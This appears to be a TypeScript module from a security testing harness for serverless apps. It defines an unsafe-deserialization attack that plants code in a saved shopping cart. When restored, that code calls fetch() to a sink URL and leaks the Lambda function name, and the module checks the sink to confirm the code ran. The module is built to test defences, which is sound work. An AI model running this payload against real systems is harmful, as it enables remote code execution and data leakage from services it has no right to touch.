import type { Attack } from "../attack.ts";
import { summary } from "../exchange.ts";
import { cartTwin, codeInCart, restore } from "./shared/requests.ts";

export const unsafeDeserializationRce: Attack = {
  id: "unsafe-deserialization-rce",
  title: "Run code in the function by a saved cart (unsafe deserialization)",
  owasp: ["SAS-8", "CWE-502"],
  paper: "III.2.C",
  defences: ["function:cart-signature", "function:cart-revival"],
  operation: "restoreCart",
  target: "carts",
  run: async (context) => {
    const token = context.sink.token();
    const script = `fetch("${context.sink.url}/${token}?" + process.env.AWS_LAMBDA_FUNCTION_NAME)`;
    const answer = await context.send(restore(context, codeInCart(script)));
    const [hit] = context.sink.hits(token);
    return { effect: hit !== undefined, evidence: hit ? `the cart's code ran in ${hit.query}` : summary(answer) };
  },
  twin: cartTwin,
};
